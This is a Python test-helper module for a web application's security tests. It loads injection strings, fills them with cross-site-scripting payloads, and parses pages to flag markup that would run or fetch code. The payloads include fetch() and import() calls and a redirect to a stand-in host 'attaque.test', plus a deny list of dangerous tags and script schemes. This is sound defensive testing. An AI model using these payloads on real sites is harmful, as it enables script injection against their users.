@@ -1,0 +1,149 @@
+"""Strings that want to run, break or hide something, and a look at pages for what would run.
+
+The strings are in ``attacks.txt``, which says how they are written. Each of them is given another
+thing to run each time the list is read with another turn: a guard against one payload is none.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from dataclasses import dataclass
+from html.parser import HTMLParser
+from itertools import count
+from pathlib import Path
+
+HOST = "attaque.test"
+# Dialogs, requests, and marks on the page: what a browser that runs one of them shows.
+PAYLOADS = (
+    "alert(1)",
+    "confirm`1`",
+    "window.prise=1",
+    f"fetch(`//{HOST}/`)",
+    f"import(`//{HOST}/a.js`)",
+    "document.body.id=`prise`",
+    f"top.location=`//{HOST}/`",
+)
+_FILE = Path(__file__).with_name("attacks.txt")
+_REPEATED = re.compile("⟦(.+?)⟧×([0-9]+)", re.DOTALL)
+_ESCAPED = re.compile(r"\\(?:x([0-9a-f]{2})|u([0-9a-f]{4})|U([0-9a-f]{8})|([ntr\\]))")
+_PLAIN = {"n": "\n", "t": "\t", "r": "\r", "\\": "\\"}
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One string; its name is its group and its place there, so that a failure can be found."""
+
+    name: str
+    group: str
+    text: str
+
+    @property
+    def sent(self) -> bytes:
+        """As a browser that breaks the rules sends it: half characters too."""
+        return self.text.encode("utf-8", "surrogatepass")
+
+
+def attacks(turn: int = 0) -> list[Attack]:
+    """Every string of the list, in its order; ``turn`` chooses what each of them runs."""
+    found: list[Attack] = []
+    group, place = "", count(1)
+    # Only a line feed ends a line here: other separators are among the attacks.
+    for line in _FILE.read_text("utf-8").split("\n"):
+        if line.startswith("[") and line.endswith("]") and line[1:-1] in GROUPS:
+            group, place = line[1:-1], count(1)
+        elif line and not (line.startswith("# ") and not group):
+            payload = PAYLOADS[(len(found) + turn) % len(PAYLOADS)]
+            found.append(Attack(f"{group} {next(place)}", group, _read(line, payload)))
+    return found
+
+
+def sample(size: int = 1) -> list[Attack]:
+    """Some of each group, always the same ones."""
+    every = attacks()
+    drawn = []
+    for group in GROUPS:
+        own = [attack for attack in every if attack.group == group]
+        drawn += own[:: max(1, len(own) // size)][:size]
+    return drawn
+
+
+def _read(line: str, payload: str) -> str:
+    told = line.replace("§", payload).replace("¤", HOST)
+    told = _ESCAPED.sub(_character, told)
+    return _REPEATED.sub(lambda found: found[1] * int(found[2]), told)
+
+
+def _character(found: re.Match[str]) -> str:
+    code = found[1] or found[2] or found[3]
+    return chr(int(code, 16)) if code else _PLAIN[found[4]]
+
+
+GROUPS = tuple(
+    line[1:-1]
+    for line in _FILE.read_text("utf-8").split("\n")
+    if re.fullmatch(r"\[[a-zA-Z ]{4,}\]", line) and line not in ("[object Object]", "[TOC]")
+)
+
+
+# --- what would run in a page -----------------------------------------------------------------
+
+# Elements that no page of the register has: whoever finds one found a text that became markup.
+_NEVER = frozenset(
+    """applet audio base bgsound embed fieldset-x font frame frameset iframe image img isindex
+    keygen marquee math noembed noframes object picture plaintext portal source style template
+    track video xmp foreignobject animate set use""".split()
+)
+_ADDRESSES = frozenset(
+    """action background cite classid data formaction href icon longdesc manifest ping poster
+    profile src srcset usemap xlink:href""".split()
+)
+_RUNS = re.compile("(?:javascript|vbscript|livescript|data|blob|filesystem):", re.IGNORECASE)
+# What a browser leaves out of an address before it reads the scheme.
+_LEFT_OUT = re.compile("[\x00-\x20\x7f-\xa0\u200b\ufeff]")
+
+
+class _Watcher(HTMLParser):
+    """Notes every element and attribute that could run or fetch something."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        told = {name: value or "" for name, value in attrs}
+        self.found += _in_element(tag, told)
+        for name, value in told.items():
+            self.found += _in_attribute(tag, name, value)
+
+    def handle_pi(self, data: str) -> None:
+        self.found.append(f"<?{data[:60]}>")
+
+
+def _in_element(tag: str, told: dict[str, str]) -> Iterator[str]:
+    own = told.get("src", "").startswith("/static/")
+    if tag in _NEVER or (tag == "script" and not own):
+        yield f"<{tag} {told}>"[:160]
+    if tag == "meta" and "http-equiv" in told:
+        yield f"<meta {told}>"[:160]
+    if tag == "link" and told.get("href", "/")[:2] == "//":
+        yield f"<link {told}>"[:160]
+    if tag == "form" and not told.get("action", "/").startswith(("/", "#", "?")):
+        yield f"<form {told}>"[:160]
+
+
+def _in_attribute(tag: str, name: str, value: str) -> Iterator[str]:
+    address = _LEFT_OUT.sub("", value)
+    inline = name.startswith("on") or name in ("style", "srcdoc")
+    if inline or (name in _ADDRESSES and _RUNS.match(address)):
+        yield f"<{tag} {name}={value}>"[:160]
+    if name in ("href", "src", "action", "formaction") and address[:2] in ("//", "/\\", "\\\\"):
+        yield f"<{tag} {name}={value}>"[:160]
+
+
+def live(page: str) -> list[str]:
+    """What in a page, or a piece of one, a browser would run or fetch."""
+    watcher = _Watcher()
+    watcher.feed(page)
+    watcher.close()
+    return watcher.found
